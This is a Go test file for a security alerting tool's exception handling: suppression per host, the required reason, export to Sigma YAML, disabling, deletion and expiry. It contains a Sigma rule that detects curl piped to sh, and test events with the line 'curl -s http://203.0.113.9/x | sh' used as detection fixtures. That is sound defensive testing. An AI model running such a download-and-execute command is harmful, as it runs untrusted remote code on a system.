package incident

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/detect"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/ingest"
	"github.com/vigilsec/vigil/internal/sigma"
	"github.com/vigilsec/vigil/internal/store"
)

const curlRule = `title: Download Piped to a Shell
id: 6f1c2a47-5a9e-4a43-9d39-2b8a0f3e1c11
level: high
tags: [cs.ex-03]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|contains|all: ['curl', '| sh']
  condition: selection
`

func compile(t *testing.T, yml string) *detect.Engine {
	t.Helper()
	c, errs := sigma.Load("rule.yml", []byte(yml))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	e, cerrs := detect.Compile(c, detect.Options{IgnoreLogsource: true})
	if len(cerrs) > 0 {
		t.Fatal(cerrs)
	}
	return e
}

func curlEvent(id, host string, at time.Time) *event.Event {
	ev := &event.Event{ID: id, Time: at, Type: "auditd"}
	ev.Set("host.name", host)
	ev.Set("CommandLine", "curl -s http://203.0.113.9/x | sh")
	return ev
}

func TestExceptionSuppressesLive(t *testing.T) {
	engine := compile(t, curlRule)
	f := newFixture(t, func(o *Options) { o.Engine = engine })
	ctx := context.Background()
	eval := func(ev *event.Event) []ingest.Raised {
		var out []ingest.Raised
		for _, a := range engine.Eval(ev, f.clk.now()) {
			out = append(out, ingest.Raised{Alert: a, Event: ev})
		}
		return out
	}
	r := eval(curlEvent("e1", "build-1", t0))
	if len(r) != 1 {
		t.Fatalf("alerts = %d, want 1", len(r))
	}
	f.keep(t, r...)
	as, _ := f.svc.ListAlerts(ctx, store.AlertFilter{}, store.Page{})
	if _, err := f.svc.CreateException(ctx, "user:1:alice", "alice", as[0].ID, ExceptionInput{Fields: map[string]string{"host.name": "build-1"}}); err == nil {
		t.Error("an exception without a reason was accepted")
	}
	exc, err := f.svc.CreateException(ctx, "user:1:alice", "alice", as[0].ID,
		ExceptionInput{Fields: map[string]string{"host.name": "build-1"}, Reason: "the CI image installs tools this way"})
	if err != nil {
		t.Fatal(err)
	}
	if a, _ := f.svc.GetAlert(ctx, as[0].ID); a.Status != store.AlertFalsePositive {
		t.Errorf("alert status = %s, want false_positive", a.Status)
	}
	// The next identical event on that host is suppressed at once; other hosts
	// still alert.
	if r := eval(curlEvent("e2", "build-1", t0.Add(time.Minute))); len(r) != 0 {
		t.Errorf("excepted event raised %d alerts", len(r))
	}
	if r := eval(curlEvent("e3", "web-1", t0.Add(time.Minute))); len(r) != 1 {
		t.Errorf("another host raised %d alerts, want 1", len(r))
	}
	if err := f.svc.Tick(ctx); err != nil {
		t.Fatal(err)
	}
	list, err := f.svc.Exceptions(ctx)
	if err != nil || len(list) != 1 || list[0].Suppressed != 1 || list[0].Author != "alice" || list[0].RuleID != "6f1c2a47-5a9e-4a43-9d39-2b8a0f3e1c11" {
		t.Fatalf("exceptions = %+v, %v", list, err)
	}
	// Saved counts are not added twice.
	f.svc.Tick(ctx)
	if list, _ := f.svc.Exceptions(ctx); list[0].Suppressed != 1 {
		t.Errorf("suppressed after a second tick = %d, want 1", list[0].Suppressed)
	}
	// The export is Sigma filter YAML that loads.
	yml, err := f.svc.ExportExceptions(ctx)
	if err != nil || !strings.Contains(string(yml), "build-1") {
		t.Fatalf("export = %s, %v", yml, err)
	}
	if _, err := detect.ParseException("export.yml", yml); err != nil {
		t.Errorf("the export does not load: %v", err)
	}
	// Disabled, it no longer applies; deleted, it is gone.
	if _, err := f.svc.UpdateException(ctx, "user:1:alice", exc.ID, ExceptionInput{Fields: exc.Fields, Reason: exc.Reason, Disabled: true}); err != nil {
		t.Fatal(err)
	}
	if r := eval(curlEvent("e4", "build-1", t0.Add(2*time.Minute))); len(r) != 1 {
		t.Errorf("disabled exception still suppresses (%d alerts)", len(r))
	}
	if err := f.svc.DeleteException(ctx, "user:1:alice", exc.ID); err != nil {
		t.Fatal(err)
	}
	if list, _ := f.svc.Exceptions(ctx); len(list) != 0 {
		t.Errorf("exceptions after delete = %+v", list)
	}
}

func TestExceptionExpires(t *testing.T) {
	engine := compile(t, curlRule)
	f := newFixture(t, func(o *Options) { o.Engine = engine })
	ctx := context.Background()
	var rs []ingest.Raised
	for _, a := range engine.Eval(curlEvent("e1", "build-1", t0), t0) {
		rs = append(rs, ingest.Raised{Alert: a, Event: curlEvent("e1", "build-1", t0)})
	}
	f.keep(t, rs...)
	as, _ := f.svc.ListAlerts(ctx, store.AlertFilter{}, store.Page{})
	if _, err := f.svc.CreateException(ctx, "user:1:alice", "alice", as[0].ID,
		ExceptionInput{Fields: map[string]string{"host.name": "build-1"}, Reason: "maintenance window", Expires: t0.Add(time.Hour)}); err != nil {
		t.Fatal(err)
	}
	if n := len(engine.Eval(curlEvent("e2", "build-1", t0.Add(30*time.Minute)), t0)); n != 0 {
		t.Errorf("within the expiry: %d alerts", n)
	}
	if n := len(engine.Eval(curlEvent("e3", "build-1", t0.Add(2*time.Hour)), t0)); n != 1 {
		t.Errorf("after the expiry: %d alerts, want 1", n)
	}
}
